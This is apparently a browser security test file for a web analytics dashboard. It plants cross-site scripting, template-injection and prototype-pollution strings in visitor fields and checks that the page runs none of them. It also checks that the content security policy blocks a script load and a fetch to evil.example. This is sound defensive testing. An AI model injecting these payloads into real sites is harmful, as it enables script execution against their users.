// Goal: nothing that visitors send runs in the page of whoever looks, and the page asks nobody else
// (D-2).
// Method: hostile texts in every field that a visitor controls; the browser tells of every violation
// of the policy, every dialog, every request to another host, and what a text has managed to set.
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { BROWSER_AGENT } from '../../support/browser.ts';
import { DashboardSite } from './support.ts';

/** Each says its number if it runs. */
const ATTACKS = [
  '<img src=x onerror="globalThis.ran=1">',
  '"><script>globalThis.ran=2</script>',
  "'-(globalThis.ran=3)-'",
  '<svg onload=globalThis.ran=4>',
  'javascript:globalThis.ran=5',
  '</title></style><script src=https://evil.example/x.js></script>',
  '{{constructor.constructor("globalThis.ran=6")()}}',
  '__proto__',
  '\u202eevil \u0000 \u2028 end',
];
const WATCH = `
globalThis.violations = [];
addEventListener('securitypolicyviolation', (event) => {
  violations.push(event.violatedDirective + ' ' + event.blockedURI + ' ' + (event.sample ?? ''));
});`;
const VIEWS = [
  ...['/shop', '/shop?path=~p', '/', '/shop?settings=snippet', '/shop?settings=audit'],
  `/shop?path=${encodeURIComponent(`/${ATTACKS[0]}`)}`,
  `/shop?range=${encodeURIComponent(String(ATTACKS[1]))}&compare=%3Cscript%3E&country=%22%3E`,
  `/shop?settings=${encodeURIComponent(String(ATTACKS[0]))}`,
  `/shop?access=${encodeURIComponent(String(ATTACKS[1]))}`,
];

let site: DashboardSite;
let foreign: string[] = [];
let dialogs: string[] = [];

beforeAll(async () => {
  site = await DashboardSite.open();
  const headers = { Authorization: `Bearer ${site.shop.access_key}` };
  const bodies = ATTACKS.map((text, at) => ({
    url: `https://shop.example/${encodeURI(text)}?utm_source=${encodeURIComponent(text)}`,
    ...{ ip: `203.0.113.${100 + at}`, user_agent: BROWSER_AGENT, title: text },
    referrer: `https://evil.example/${encodeURIComponent(text)}`,
    time: new Date(Date.now() - 60_000).toISOString(),
    tags: { [text.slice(0, 40)]: text.slice(0, 40) },
    accept_language: text,
  }));
  await site.post('/api/v1/hit/batch', bodies, headers);
  const events = bodies.map((body, at) => ({
    ...{ ...body, event_name: ATTACKS[at], event_meta: { [ATTACKS[at] ?? '']: ATTACKS[at] } },
  }));
  await site.post('/api/v1/event/batch', events, headers);
});
afterAll(() => site.close());
beforeEach(async () => {
  [foreign, dialogs] = [[], []];
  await site.begin();
  await site.context.addInitScript(WATCH);
  // The machine has no internet: whatever is asked elsewhere fails, and is told.
  await site.context.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith(site.service.baseUrl) || url.startsWith('data:')) return route.continue();
    foreign.push(url);
    return route.abort();
  });
  site.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
});
afterEach(() => site.end());

/** Waits for a page, and for all that it asks for to be drawn. */
async function settled(): Promise<void> {
  await site.page.waitForSelector('h1, h2');
  const busy = 'main[aria-busy="true"], .panel-body[aria-busy="true"]';
  await expect.poll(() => site.page.locator(busy).count(), { timeout: 30_000 }).toBe(0);
  const drawn = 'new Promise((done) => requestAnimationFrame(() => setTimeout(done)))';
  await site.page.evaluate(drawn);
}

/** What went wrong in the page. */
async function harm(): Promise<unknown[]> {
  const ran = await site.page.evaluate('globalThis.ran ?? null');
  const violations = (await site.page.evaluate('violations')) as string[];
  return [...(ran === null ? [] : [ran]), ...violations, ...foreign, ...dialogs];
}

test.each(VIEWS)('%s runs no text of a visitor and asks nobody else (D-2)', async (path) => {
  await site.signIn(path);
  await settled();
  expect(await site.page.locator('#app img[src="x"], #app script, #app svg[onload]').count()).toBe(
    0,
  );
  expect(await harm()).toEqual([]);
});

test('every panel shows them as texts, whichever tab is open (D-2, D-12)', async () => {
  await site.openSite('/shop');
  const tabs = site.page.getByRole('tab');
  for (let at = 0; at < (await tabs.count()); at++) {
    await tabs.nth(at).click();
    await settled();
  }
  expect(await site.page.locator('#app img[src="x"], #app script, #app svg[onload]').count()).toBe(
    0,
  );
  const links = (await site.page.evaluate(
    '[...document.links].map(({ protocol }) => protocol)',
  )) as string[];
  expect(links.filter((protocol) => !/^(https?|mailto):$/.test(protocol))).toEqual([]);
  expect(await harm()).toEqual([]);
});

test('the policy holds: what would stand in the page does not run (D-2)', async () => {
  await site.openSite('/shop');
  await site.page.evaluate(`{
    const made = document.createElement('div');
    made.innerHTML = '<img src=x onerror="globalThis.ran=7"><b style="color:red">';
    document.body.append(made);
    const script = document.createElement('script');
    script.textContent = 'globalThis.ran=8';
    document.body.append(script);
    void fetch('https://evil.example/').catch(() => 0);
  }`);
  const violations = () => site.page.evaluate('violations.join()') as Promise<string>;
  await expect.poll(violations).toContain('connect-src');
  await expect.poll(violations).toContain('script-src-elem');
  await expect.poll(violations).toContain('script-src-attr');
  expect(await site.page.evaluate('globalThis.ran ?? null')).toBe(null);
  expect(foreign).toEqual([]);
});

test('before somebody signs in there is no cookie, and no storage (D-2)', async () => {
  await site.page.goto(site.service.baseUrl);
  await site.page.waitForSelector('h1, h2');
  expect(await site.context.cookies()).toEqual([]);
  expect(await site.page.evaluate('localStorage.length + sessionStorage.length')).toBe(0);
});
